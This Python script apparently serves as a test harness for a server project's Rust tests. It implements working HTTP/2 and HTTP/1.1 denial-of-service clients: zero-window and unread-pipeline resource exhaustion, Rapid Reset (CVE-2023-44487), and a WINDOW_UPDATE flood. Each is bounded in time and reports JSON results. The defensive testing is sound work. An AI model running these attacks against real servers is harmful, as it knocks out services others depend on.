"""Clients that attack a server's HTTP/2 (and HTTP/1.1) the way public servers are attacked,
with the Python h2 library (PyPI `h2`, through h2_client.py) on plain sockets; each prints what it saw as one JSON
object on its last line of stdout. The Rust tests (tests/h2_attacks.rs) check it. Every loop
here is bounded by a limit in seconds given on the command line.

usage:
  h2_attacks.py unread HOST:PORT H2_CONNS H1_CONNS REQUESTS H1_REQUESTS ROWS LIMIT_S
      H2_CONNS HTTP/2 connections with a zero receive window (SETTINGS_INITIAL_WINDOW_SIZE
      0) each send REQUESTS `POST /` of ROWS rows of 4 numbers (the MLP's answers are about
      60 bytes a row) and never open their window; they read and answer what the server
      sends otherwise (PING, SETTINGS). H1_CONNS HTTP/1.1 connections each send H1_REQUESTS
      such requests pipelined and read nothing (more answers than the sockets' buffers hold). Prints `parked` on a line of its own once every
      HTTP/2 answer's head has come (the answers are made and wait for the window), then
      waits for the server to close every HTTP/2 connection, prints `h2 closed`, and once a
      line comes on stdin reads what each HTTP/1.1 connection holds up to its end.
  h2_attacks.py rapid-reset HOST:PORT STREAMS SECONDS
      Rapid Reset (CVE-2023-44487): opens streams and resets each at once, up to STREAMS
      or SECONDS, until the server says GOAWAY: what it said, streams opened.
  h2_attacks.py window-flood HOST:PORT CONNS SECONDS
      CONNS connections sending WINDOW_UPDATE(+1) frames on the connection as fast as they
      can until the server says GOAWAY, for at most SECONDS: how each ended (the GOAWAY's
      error code and debug data), frames sent.
"""
import json
import select
import socket
import sys
import threading
import time

from h2_client import H2, pump_until


def mlp_body(rows):
    vals = ",".join("[%d.125,%d.5,-%d.25,0.%d]" % (i, i % 7, i % 5, i) for i in range(rows))
    return ('{"inputs": [%s]}' % vals).encode()


def unread(url, h2_conns, h1_conns, requests, h1_requests, rows, limit_s):
    host, port = url.rsplit(":", 1)
    port = int(port)
    body = mlp_body(rows)
    started = time.monotonic()
    # One connection after the other, each once the last has its answers parked: the
    # workers are free again and take the next at once (a connection that waits in the
    # listen queue makes answers ask GOAWAY, after which the h2 library takes no frame).
    conns = []
    for _ in range(h2_conns):
        c = H2(host, port, window=0)
        conns.append(c)
        for _ in range(requests):
            c.request("/", body, [("content-type", "application/json")])
        pump_until([c], lambda: c.heads == requests or c.closed is not None, limit_s)
    h1 = []
    for _ in range(h1_conns):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.connect((host, port))
        head = ("POST / HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n"
                "Content-Length: %d\r\n\r\n" % (url, len(body))).encode()
        wrote = {"requests": 0, "error": None}

        def write(s=s, wrote=wrote):
            try:
                for _ in range(h1_requests):
                    s.sendall(head + body)
                    wrote["requests"] += 1
            except OSError as e:
                wrote["error"] = e.__class__.__name__

        t = threading.Thread(target=write, daemon=True)
        t.start()
        h1.append((s, wrote, t))
    parked_at = time.monotonic() - started
    print("parked", flush=True)
    pump_until(conns, lambda: all(c.closed is not None for c in conns), limit_s)
    h2_out = [{"heads": c.heads, "data": c.data, "closed": c.closed,
               "statuses": sorted(set(c.status.values())), "goaway": c.goaway}
              for c in conns]
    closed_at = time.monotonic() - started
    # Reading the HTTP/1.1 connections would take their answers: only once told to.
    print("h2 closed", flush=True)
    sys.stdin.readline()
    h1_out = []
    for s, wrote, t in h1:
        s.settimeout(max(1.0, limit_s - (time.monotonic() - started)))
        got, end = b"", None
        try:
            while True:
                d = s.recv(1 << 16)
                if not d:
                    end = "eof"
                    break
                got += d
        except OSError as e:
            end = e.__class__.__name__
        t.join(1)
        h1_out.append({"answers": got.count(b"HTTP/1.1 200"), "end": end,
                       "sent": wrote["requests"], "send_error": wrote["error"]})
    return {"parked_after_s": round(parked_at, 2), "h2_closed_after_s": round(closed_at, 2),
            "h2": h2_out, "h1": h1_out}


def window_flood(url, conns, seconds):
    host, port = url.rsplit(":", 1)
    cs = [H2(host, int(port)) for _ in range(conns)]
    frame = b"\x00\x00\x04\x08\x00\x00\x00\x00\x00\x00\x00\x00\x01"  # WINDOW_UPDATE +1, stream 0
    batch = frame * 4096
    sent = [0] * conns
    end = time.monotonic() + seconds
    flooding = lambda c: c.closed is None and c.goaway is None  # noqa: E731
    while time.monotonic() < end and any(flooding(c) for c in cs):
        for i, c in enumerate(cs):
            if not flooding(c):
                continue
            try:
                c.sock.sendall(batch)
                sent[i] += 4096
            except OSError as e:
                c.closed = e.__class__.__name__
            r, _, _ = select.select([c.sock], [], [], 0)
            if r:
                c.readable()
    # What the server said last, for connections that were cut while sending.
    for c in cs:
        if c.goaway is None:
            c.sock.settimeout(2)
            c.closed = None
            try:
                while c.closed is None and c.goaway is None:
                    c.readable()
            except OSError:
                pass
    return {"conns": [{"sent": n, "goaway": c.goaway, "closed": c.closed}
                      for n, c in zip(sent, cs)]}


def rapid_reset(url, streams, seconds):
    host, port = url.rsplit(":", 1)
    c = H2(host, int(port))
    sent, end = 0, time.monotonic() + seconds
    while sent < streams and c.closed is None and c.goaway is None \
            and time.monotonic() < end:
        for _ in range(50):
            sid = c.c.get_next_available_stream_id()
            c.c.send_headers(sid, [(":method", "POST"), (":path", "/"), (":scheme", "http"),
                                   (":authority", url),
                                   ("content-type", "application/json")])
            c.c.reset_stream(sid)
            sent += 1
        c.flush()
        r, _, _ = select.select([c.sock], [], [], 0)
        if r:
            c.readable()
    pump_until([c], lambda: c.goaway is not None, max(1.0, end - time.monotonic()))
    return {"sent": sent, "goaway": c.goaway, "closed": c.closed}


def main():
    mode, args = sys.argv[1], sys.argv[2:]
    if mode == "unread":
        url, *n = args
        out = unread(url, *map(int, n[:5]), float(n[5]))
    elif mode == "rapid-reset":
        out = rapid_reset(args[0], int(args[1]), float(args[2]))
    elif mode == "window-flood":
        out = window_flood(args[0], int(args[1]), float(args[2]))
    else:
        sys.exit("unknown mode %r" % mode)
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
